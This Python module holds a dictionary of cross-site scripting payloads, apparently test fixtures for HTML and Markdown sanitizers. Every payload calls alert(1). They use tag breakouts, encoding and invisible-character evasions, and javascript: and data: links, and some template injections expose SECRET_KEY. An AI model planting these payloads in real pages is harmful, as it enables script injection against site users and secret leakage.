"""Texts that run a script wherever a page takes them for markup. Each calls alert(1), which opens a dialog."""

from __future__ import annotations

B64 = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="

PAYLOADS: dict[str, str] = {
    # Elements
    "script": "<script>alert(1)</script>",
    "script in odd case": "<ScRiPt\n>alert(1)</sCrIpT\t>",
    "script, left over when cleaned once": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "image that fails": "<img src=x onerror=alert(1)>",
    "image without blanks": "<img/src='x'/onerror=alert(1)>",
    "image left open": "<img src=x onerror=alert(1) ",
    "svg": "<svg/onload=alert(1)>",
    "svg that moves": "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "svg with a link and a script": '<svg><a xlink:href="javascript:alert(1)">x</a><script>alert&lpar;1&rpar;</script>',
    "math that changes when cleaned": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "details": "<details open ontoggle=alert(1)>x</details>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "body": "<body onload=alert(1) onpageshow=alert(1)>",
    "frames": "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe><iframe src=javascript:parent.alert(1)>",
    "object": "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "base, refresh and form": "<base href=//127.0.0.1:1/><form action=javascript:alert(1)><button>x</button></form>"
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "style": "<style>@import'javascript:alert(1)';*{width:expression(alert(1))}</style><p style=width:expression(1)>",
    # Out of the place of the text
    "double quote": '" autofocus onfocus="alert(1)" tabindex="1',
    "double quote and tag": '"><script>alert(1)</script>',
    "single quote": "' autofocus onfocus='alert(1)' tabindex='1",
    "single quote and tag": "'><img src=x onerror=alert(1)>",
    "no quote, or a backtick": "x autofocus onfocus=alert(1) tabindex=1 `onfocus=alert(1)",
    "title": "</title><script>alert(1)</script>",
    "textarea": "</textarea></option></select><script>alert(1)</script>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "script that holds JSON": '"}]</script><script>alert(1)</script>',
    "string in a script": "\\\";alert(1);//';alert(1);//`${alert(1)}",
    "comment": "--><script>alert(1)</script><!--><img src=x onerror=alert(1)>-->",
    "CDATA": "]]><![CDATA[><script>alert(1)</script>]]><?php <script>alert(1)</script> ?>",
    # Templates
    "template variable": "{{ '<script>alert(1)</script>'|safe }}{{ settings.SECRET_KEY }}",
    "template tag": "{% autoescape off %}<script>alert(1)</script>{% endautoescape %}{% debug %}",
    # Entities and characters
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;&#60script&#62alert(1)&#x3c/script&#x3e",
    "entities of entities": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "escapes": "\\u003cscript\\u003ealert(1)\\x3c/script\\x3e%3Cscript%3Ealert(1)%3C/script%3E",
    "wide, and like overlong UTF-8": "＜script＞alert(1)＜/script＞À¼scriptÀ¾alert(1)À¼/scriptÀ¾ à€¼img src=x à€¾",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "right to left": "\u202e<script>alert(1)</script>\u202c\u2066",
    "no width": "\ufeff<script\u200b>alert(1)</script><img\u2028src=x\u2029on\u200derror=alert(1)>",
    "replacement characters": "<scr\ufffdipt>alert(1)</script\ufffd><img src=x onerror=alert(1) x\ufffd>",
    "null": "<scr\0ipt>alert(1)</scr\0ipt>",
    "form feed": "<img\x0csrc=x\x0conerror=alert(1)>",
    "half a character": "<script>\ud800alert(1)</script>",
    # Markdown and addresses
    "links": "[x](javascript:alert(1)) [y](java&#115;cript&colon;alert&lpar;1&rpar;) [z](< JaVaScRiPt:alert(1)>)",
    "links of data": f"[x](data:text/html;base64,{B64}) [y](vbscript:alert(1)) [z](<data:text/html,x>)",
    "links with quotes": "[x](https://x.invalid/\"onclick=\"alert(1)) [y](#x'onclick='alert(1)) "
    '[z](/ "\\" autofocus onfocus=\\"alert(1)")',
    "pictures": '![x" onerror="alert(1)](javascript:alert(1)) ![y](//x.invalid/y.png "z")',
    "autolinks": "<javascript:alert(1)> <data:text/html,alert(1)> <https://x.invalid/\"onclick='alert(1)'>",
    "reference": "[x]: javascript:alert(1)\n\n[x] and [x][x]",
    "code": "`<script>alert(1)</script>`\n\n~~~html\n<script>alert(1)</script>\n~~~\n\n    <script>alert(1)</script>",
    "citation": '[@x" onclick="alert(1)] [@<script>alert(1)</script>]',
    "address of javascript": "javascript://x.invalid/%0aalert(1)",
    "address of data": "data:text/html,<script>alert(1)</script>",
    "address with a quote": 'https://x.invalid/"onfocus="alert(1)"autofocus="',
    "address with a tag": "https://x.invalid/'><script>alert(1)</script>",
}
